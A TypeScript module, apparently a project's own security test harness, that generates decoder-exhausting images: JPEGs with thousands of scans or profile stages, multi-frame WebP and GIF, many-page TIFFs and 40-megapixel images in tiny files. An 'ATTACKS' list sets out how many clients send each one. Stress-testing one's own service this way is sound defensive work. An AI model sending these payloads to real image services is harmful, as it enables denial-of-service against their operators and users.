import { crc32, deflateSync } from "node:zlib";
import sharp, { type Sharp } from "sharp";

/**
 * Images that cost their reader far more than their bytes: what an attacker would send. Each is as a decoder would
 * take it, if it were let.
 */

const bytes = (...values: number[]) => Buffer.from(values);
const ascii = (text: string) => Buffer.from(text, "latin1");

export function be16(value: number): Buffer {
  const out = Buffer.alloc(2);
  out.writeUInt16BE(value);
  return out;
}

export function be32(value: number): Buffer {
  const out = Buffer.alloc(4);
  out.writeUInt32BE(value);
  return out;
}

function le32(value: number): Buffer {
  const out = Buffer.alloc(4);
  out.writeUInt32LE(value);
  return out;
}

function repeat(part: Buffer, count: number): Buffer {
  return Buffer.alloc(part.length * count, part);
}

// --- Colour profiles (ICC.1:2022) ---

/** A profile with the given tags, 4-byte aligned; tags that are the same object share their place in the file. */
export function profileOf(
  tags: readonly (readonly [signature: string, data: Buffer])[],
  { space = "RGB ", pcs = "XYZ ", deviceClass = "mntr", version = 0x04400000 } = {},
): Buffer {
  const places = new Map<Buffer, number>();
  const blocks: Buffer[] = [];
  let end = 128 + 4 + 12 * tags.length;
  for (const [, data] of tags) {
    if (places.has(data)) continue;
    places.set(data, end);
    const padded = Buffer.concat([data, Buffer.alloc(-data.length & 3)]);
    blocks.push(padded);
    end += padded.length;
  }
  const header = Buffer.alloc(128);
  header.writeUInt32BE(end, 0);
  header.writeUInt32BE(version, 8);
  header.write(deviceClass + space + pcs, 12, "latin1");
  header.writeUInt16BE(2024, 24);
  header.write("acsp", 36, "latin1");
  // The illuminant of the profile connection space: D50.
  Buffer.concat([be32(0xf6d6), be32(0x10000), be32(0xd32d)]).copy(header, 68);
  const table = tags.map(([signature, data]) =>
    Buffer.concat([ascii(signature), be32(places.get(data) ?? 0), be32(data.length)]),
  );
  return Buffer.concat([header, be32(tags.length), ...table, ...blocks]);
}

const xyz = (x: number, y: number, z: number) =>
  Buffer.concat([ascii("XYZ \0\0\0\0"), ...[x, y, z].map((v) => be32(Math.round(v * 65536) >>> 0))]);
export const gammaCurve = (gamma: number) =>
  Buffer.concat([ascii("para\0\0\0\0"), be16(0), be16(0), be32(Math.round(gamma * 65536))]);

/** What an RGB profile of matrix and curves consists of: Adobe RGB's primaries. */
export function matrixTags(curve = gammaCurve(2.2)): [string, Buffer][] {
  return [
    ["wtpt", xyz(0.9642, 1, 0.8249)],
    ["rXYZ", xyz(0.60974, 0.31111, 0.01947)],
    ["gXYZ", xyz(0.20528, 0.62567, 0.06087)],
    ["bXYZ", xyz(0.14919, 0.06322, 0.74457)],
    ["rTRC", curve],
    ["gTRC", curve],
    ["bTRC", curve],
  ];
}

/** A multiProcessElement of so many curve sets, all in the same place: 8 bytes for each. */
function elements(count: number): Buffer {
  const segment = Buffer.concat([ascii("parf\0\0\0\0"), be16(0), be16(0), ...[1, 1, 0, 0].map(be32f)]);
  const curve = Buffer.concat([ascii("curf\0\0\0\0"), be16(1), be16(0), segment]);
  const at = 12 + 3 * 8;
  const set = Buffer.concat([
    ascii("cvst\0\0\0\0"),
    be16(3),
    be16(3),
    ...[0, 1, 2].flatMap(() => [be32(at), be32(curve.length)]),
    curve,
  ]);
  const place = Buffer.concat([be32(16 + 8 * count), be32(set.length)]);
  return Buffer.concat([ascii("mpet\0\0\0\0"), be16(3), be16(3), be32(count), repeat(place, count), set]);
}

function be32f(value: number): Buffer {
  const out = Buffer.alloc(4);
  out.writeFloatBE(value);
  return out;
}

/** A profile whose transform has `stages` steps. */
export function elementsProfile(stages: number): Buffer {
  const mpet = elements(stages);
  return profileOf([...matrixTags(), ["D2B0", mpet], ["D2B1", mpet]]);
}

/** A profile by table: `grid` steps in each of `inputs` channels (ICC.1, lut16Type), the identity's shape if not its colours. */
export function tableProfile(inputs: 3 | 4, grid: number, entries = 256): Buffer {
  const ramp = Buffer.concat(
    Array.from({ length: entries }, (_, i) => be16(Math.round((i / (entries - 1)) * 65535))),
  );
  const identity = [1, 0, 0, 0, 1, 0, 0, 0, 1].map((v) => be32(v * 65536));
  const table = Buffer.alloc(grid ** inputs * 3 * 2);
  for (let node = 0; node < grid ** inputs; node += 1) {
    const dark = inputs === 4 ? node % grid : (grid - 1) * (1 - node / grid ** 3);
    table.writeUInt16BE(Math.round(65280 * (1 - dark / (grid - 1))), node * 6);
    table.writeUInt16BE(32768, node * 6 + 2);
    table.writeUInt16BE(32768, node * 6 + 4);
  }
  const lut = Buffer.concat([
    ascii("mft2\0\0\0\0"),
    bytes(inputs, 3, grid, 0),
    ...identity,
    be16(entries),
    be16(entries),
    repeat(ramp, inputs),
    table,
    repeat(ramp, 3),
  ]);
  return profileOf(
    [
      ["wtpt", xyz(0.9642, 1, 0.8249)],
      ["A2B0", lut],
    ],
    { space: inputs === 4 ? "CMYK" : "RGB ", pcs: "Lab ", deviceClass: "prtr", version: 0x02400000 },
  );
}

// --- JPEG (ITU-T T.81) ---

export function segment(marker: number, data: Uint8Array = Buffer.alloc(0)): Buffer {
  return Buffer.concat([bytes(0xff, marker), be16(data.length + 2), data]);
}

/** The JPEG with segments put behind its first marker. */
export function withSegments(jpeg: Buffer, segments: readonly Buffer[]): Buffer {
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
}

/** A profile in as many segments as it takes. */
export function profileSegments(profile: Buffer): Buffer[] {
  const size = 65_519;
  const count = Math.ceil(profile.length / size);
  return Array.from({ length: count }, (_, i) =>
    segment(
      0xe2,
      Buffer.concat([
        ascii("ICC_PROFILE\0"),
        bytes(i + 1, count),
        profile.subarray(i * size, (i + 1) * size),
      ]),
    ),
  );
}

/**
 * A JPEG of scans that say nothing new: a decoder goes over every coefficient of every block for each. Progressive with
 * Huffman codes of one bit, or with arithmetic coding.
 */
export function manyScans(
  width: number,
  height: number,
  scans: number,
  { arithmetic = false, components = 3 } = {},
): Buffer {
  const ids = Array.from({ length: components }, (_, i) => i + 1);
  const frame = Buffer.concat([
    bytes(8),
    be16(height),
    be16(width),
    bytes(components),
    ...ids.map((id) => bytes(id, 0x11, 0)),
  ]);
  // One code, "0": difference 0 of DC; of AC a run of 16,384 empty blocks and more.
  const code = (tableClass: number, symbol: number) =>
    segment(0xc4, bytes(tableClass, 1, ...Array(15).fill(0), symbol));
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  // Zero bits: codes of one bit, with 14 bits behind each of the runs.
  const zeros = (bits: number) => Buffer.alloc(arithmetic ? 0 : Math.ceil(bits / 8));
  const dc = segment(0xda, bytes(components, ...ids.flatMap((id) => [id, 0]), 0, 0, 0));
  const runs = zeros((blocks / 2 ** 14 + 1) * 15);
  const ac = Array.from({ length: scans - 1 }, (_, i) => {
    // Bit by bit from the highest for each component, then for each narrower band: an order that T.81 allows.
    const low = LEVELS - 1 - (Math.floor(i / components) % LEVELS);
    const band = Math.floor(i / components / LEVELS) % 63;
    const [first, last] = scans <= components * LEVELS ? [1, 63] : [band + 1, band + 1];
    const high = low === LEVELS - 1 ? 0 : low + 1;
    return Buffer.concat([
      segment(0xda, bytes(1, ids[i % components] ?? 1, 0, first, last, high * 16 + low)),
      runs,
    ]);
  });
  return Buffer.concat([
    bytes(0xff, 0xd8),
    segment(0xdb, bytes(0, ...Array(64).fill(1))),
    segment(arithmetic ? 0xca : 0xc2, frame),
    ...(arithmetic ? [] : [code(0x00, 0), code(0x10, 0xe0)]),
    dc,
    zeros(blocks * components),
    ...ac,
    bytes(0xff, 0xd9),
  ]);
}

/** Bits of a coefficient that scans can bring one at a time. */
const LEVELS = 14;

export async function manySegments(count: number): Promise<Buffer> {
  const jpeg = await dot().jpeg().toBuffer();
  return withSegments(jpeg, [repeat(bytes(0xff, 0xe5, 0, 2), count)]);
}

// --- PNG ---

export function pngChunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([ascii(type), data]);
  return Buffer.concat([be32(data.length), body, be32(crc32(body))]);
}

/** The PNG with chunks put behind its header. */
export function withChunks(png: Buffer, chunks: readonly Buffer[]): Buffer {
  return Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)]);
}

export function profileChunk(profile: Buffer): Buffer {
  return pngChunk("iCCP", Buffer.concat([ascii("p\0\0"), deflateSync(profile, { level: 9 })]));
}

/** An empty picture: all bytes zero. */
export function blankPng(
  width: number,
  height: number,
  depth: 8 | 16,
  colour: 0 | 2 | 6,
  interlaced: boolean,
): Buffer {
  const channels = { 0: 1, 2: 3, 6: 4 }[colour];
  const rowBytes = (pixels: number) => 1 + (pixels * channels * depth) / 8;
  // First row and column and the steps of Adam7's passes.
  const passes = [
    [0, 0, 8, 8],
    [0, 4, 8, 8],
    [4, 0, 8, 4],
    [0, 2, 4, 4],
    [2, 0, 4, 2],
    [0, 1, 2, 2],
    [1, 0, 2, 1],
  ] as const;
  const size = interlaced
    ? passes.reduce((sum, [top, left, down, across]) => {
        const [rows, columns] = [Math.ceil((height - top) / down), Math.ceil((width - left) / across)];
        return columns > 0 && rows > 0 ? sum + rows * rowBytes(columns) : sum;
      }, 0)
    : height * rowBytes(width);
  const header = Buffer.concat([be32(width), be32(height), bytes(depth, colour, 0, 0, interlaced ? 1 : 0)]);
  return Buffer.concat([
    ascii("\x89PNG\r\n\x1a\n"),
    pngChunk("IHDR", header),
    pngChunk("IDAT", deflateSync(Buffer.alloc(size), { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

// --- WebP (RFC 9649) ---

export function riffChunk(type: string, data: Uint8Array): Buffer {
  return Buffer.concat([ascii(type), le32(data.length), data, Buffer.alloc(data.length & 1)]);
}

export function riff(chunks: readonly Buffer[]): Buffer {
  const body = Buffer.concat([ascii("WEBP"), ...chunks]);
  return Buffer.concat([ascii("RIFF"), le32(body.length), body]);
}

export async function manyWebpFrames(count: number): Promise<Buffer> {
  const still = await dot().webp({ lossless: true }).toBuffer();
  const frame = riffChunk("ANMF", Buffer.concat([Buffer.alloc(12), bytes(1, 0, 0, 0), still.subarray(12)]));
  return riff([
    riffChunk("VP8X", bytes(2, ...Array(9).fill(0))),
    riffChunk("ANIM", Buffer.alloc(6)),
    repeat(frame, count),
  ]);
}

/** So many pixels of one colour in some forty bytes. */
export function largeWebp(width: number, height: number): Promise<Buffer> {
  return blank(width, height).webp({ lossless: true, effort: 0 }).toBuffer();
}

// --- GIF ---

export async function manyGifFrames(count: number): Promise<Buffer> {
  const gif = await dot().gif().toBuffer();
  const table = gif.subarray(0, 13 + 3 * 2 ** (((gif[10] ?? 0) & 7) + 1));
  const frame = Buffer.concat([ascii(","), Buffer.alloc(4), bytes(1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0)]);
  return Buffer.concat([table, repeat(frame, count), ascii(";")]);
}

/** A picture whose data goes on long after its last pixel: every code a run as long as they come. */
export function overfullGif(width: number, height: number, size: number): Buffer {
  const block = Buffer.concat([bytes(255), Buffer.alloc(255, 0xa5)]);
  return Buffer.concat([
    ascii("GIF89a"),
    bytes(width & 255, width >> 8, height & 255, height >> 8, 0x80, 0, 0),
    Buffer.alloc(6),
    ascii(","),
    Buffer.alloc(4),
    bytes(width & 255, width >> 8, height & 255, height >> 8, 0, 2),
    repeat(block, Math.ceil(size / block.length)),
    bytes(0),
    ascii(";"),
  ]);
}

// --- TIFF 6.0 ---

export type TiffEntry = [tag: number, type: 1 | 2 | 3 | 4 | 5 | 7, values: readonly number[] | Buffer];

const TIFF_BYTES = { 1: 1, 2: 1, 3: 2, 4: 4, 5: 8, 7: 1 } as const;

/** A little-endian TIFF of pages behind `pixels`, which begin at byte 8. Values that do not fit stand behind each page. */
export function tiffOf(pixels: Buffer, pages: readonly (readonly TiffEntry[])[]): Buffer {
  const blocks: Buffer[] = [pixels];
  let at = 8 + pixels.length;
  const header = Buffer.concat([ascii("II*\0"), le32(at + (at & 1))]);
  if (at & 1) {
    blocks.push(Buffer.alloc(1));
    at += 1;
  }
  pages.forEach((entries, index) => {
    const table = Buffer.alloc(2 + entries.length * 12 + 4);
    table.writeUInt16LE(entries.length);
    const extra: Buffer[] = [];
    let behind = at + table.length;
    entries.forEach(([tag, type, values], i) => {
      const data = Buffer.isBuffer(values)
        ? values
        : Buffer.concat(
            values.map((v) => (type === 3 ? le32(v).subarray(0, 2) : type === 4 ? le32(v) : bytes(v))),
          );
      table.writeUInt16LE(tag, 2 + i * 12);
      table.writeUInt16LE(type, 4 + i * 12);
      table.writeUInt32LE(data.length / TIFF_BYTES[type], 6 + i * 12);
      if (data.length <= 4) data.copy(table, 10 + i * 12);
      else {
        table.writeUInt32LE(behind, 10 + i * 12);
        const padded = Buffer.concat([data, Buffer.alloc(data.length & 1)]);
        extra.push(padded);
        behind += padded.length;
      }
    });
    if (index < pages.length - 1) table.writeUInt32LE(behind, table.length - 4);
    blocks.push(table, ...extra);
    at = behind;
  });
  return Buffer.concat([header, ...blocks]);
}

/** What a page of one grey pixel needs. */
const GREY_PAGE: readonly TiffEntry[] = [
  [256, 3, [1]],
  [257, 3, [1]],
  [258, 3, [8]],
  [259, 3, [1]],
  [262, 3, [1]],
  [273, 4, [8]],
  [278, 3, [1]],
  [279, 4, [1]],
];

export function manyTiffPages(count: number): Buffer {
  return tiffOf(bytes(1), Array(count).fill(GREY_PAGE));
}

/** A picture of squares of `side`, each the same few bytes of deflate; the first is all that is in the file. */
export function manyTiffTiles(width: number, height: number, side: number): Buffer {
  const tile = deflateSync(Buffer.alloc(side * side), { level: 9 });
  const count = Math.ceil(width / side) * Math.ceil(height / side);
  return tiffOf(tile, [
    [
      [256, 4, [width]],
      [257, 4, [height]],
      [258, 3, [8]],
      [259, 3, [8]],
      [262, 3, [1]],
      [322, 4, [side]],
      [323, 4, [side]],
      [324, 4, repeat(le32(8), count)],
      [325, 4, repeat(le32(tile.length), count)],
    ],
  ]);
}

/** Strips of a row, each one a JPEG of its own. */
export function jpegTiff(width: number, height: number, strip: Buffer, rows: number): Buffer {
  const count = Math.ceil(height / rows);
  return tiffOf(strip, [
    [
      [256, 4, [width]],
      [257, 4, [height]],
      [258, 3, [8, 8, 8]],
      [259, 3, [7]],
      [262, 3, [6]],
      [273, 4, repeat(le32(8), count)],
      [277, 3, [3]],
      [278, 4, [rows]],
      [279, 4, repeat(le32(strip.length), count)],
    ],
  ]);
}

// --- AVIF ---

/** One colour; ten bits and an alpha channel as wanted. */
export function largeAvif(width: number, height: number, bitdepth: 8 | 10, alpha: boolean): Promise<Buffer> {
  const background = { r: 200, g: 50, b: 20, ...(alpha ? { alpha: 0.5 } : {}) };
  return sharp({ create: { width, height, channels: alpha ? 4 : 3, background } as never })
    .avif({ bitdepth, effort: 0, chromaSubsampling: "4:4:4" })
    .toBuffer();
}

/** A HEIF box. */
export function box(type: string, ...content: readonly Uint8Array[]): Buffer {
  const body = Buffer.concat(content);
  return Buffer.concat([be32(body.length + 8), ascii(type), body]);
}

function dot(): Sharp {
  return blank(1, 1);
}

function blank(width: number, height: number): Sharp {
  return sharp({ create: { width, height, channels: 3, background: "#c83214" } });
}

export interface Attack {
  /** What it is, as the table in SECURITY.md says it. */
  readonly name: string;
  make(): Promise<Buffer> | Buffer;
  /** Clients that send it at the same time. @default 2 */
  readonly clients?: number;
}

const SIDE = 6324; // 40 megapixels, the default limit
const MEBIBYTE = 2 ** 20;

/** Every row of the table. */
export const ATTACKS: readonly Attack[] = [
  {
    name: "PNG, profile of thousands of steps",
    make: async () => withChunks(await dot().png().toBuffer(), [profileChunk(elementsProfile(12_000))]),
  },
  {
    name: "JPEG, profile of thousands of steps",
    make: async () => withSegments(await dot().jpeg().toBuffer(), profileSegments(elementsProfile(1_300))),
  },
  { name: "JPEG, progressive, 800 scans of 40 megapixels", make: () => manyScans(SIDE, SIDE, 800) },
  { name: "JPEG, progressive, 50,000 scans", make: () => manyScans(800, 800, 50_000) },
  { name: "JPEG, arithmetic, 800 scans", make: () => manyScans(SIDE, SIDE, 800, { arithmetic: true }) },
  {
    name: "JPEG, progressive, 40 megapixels of CMYK",
    make: () => manyScans(SIDE, SIDE, 9, { components: 4 }),
  },
  { name: "JPEG, 2.6 million empty segments", make: () => manySegments(2_600_000) },
  { name: "AVIF, 40 megapixels of 10 bits with alpha", make: () => largeAvif(SIDE, SIDE, 10, true) },
  { name: "AVIF, 40 megapixels of 8 bits", make: () => largeAvif(SIDE, SIDE, 8, false) },
  { name: "WebP, 140,000 frames", make: () => manyWebpFrames(140_000), clients: 4 },
  { name: "GIF, 500,000 frames", make: () => manyGifFrames(500_000) },
  { name: "GIF, 9 MiB behind its last pixel", make: () => overfullGif(SIDE, SIDE, 9 * MEBIBYTE) },
  { name: "TIFF, 90,000 pages", make: () => manyTiffPages(90_000) },
  { name: "TIFF, 150,000 tiles", make: () => manyTiffTiles(SIDE, SIDE, 16) },
  {
    name: "TIFF, a JPEG of hundreds of scans in each strip",
    make: () => jpegTiff(4000, 4000, manyScans(4000, 40, 1_000), 40),
  },
  { name: "WebP, 40 megapixels in 38 bytes", make: () => largeWebp(SIDE, SIDE), clients: 50 },
  { name: "PNG, 40 megapixels, 16 bits, alpha, interlaced", make: () => blankPng(SIDE, SIDE, 16, 6, true) },
];
